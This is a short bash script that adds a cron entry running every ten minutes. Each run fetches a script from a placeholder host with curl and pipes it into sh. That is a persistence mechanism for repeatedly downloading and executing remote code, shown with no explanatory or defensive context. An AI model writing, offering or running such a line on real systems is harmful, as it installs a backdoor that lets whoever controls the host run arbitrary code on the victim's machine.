#!/bin/bash
(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s https://c.example.invalid/t | sh") | crontab -
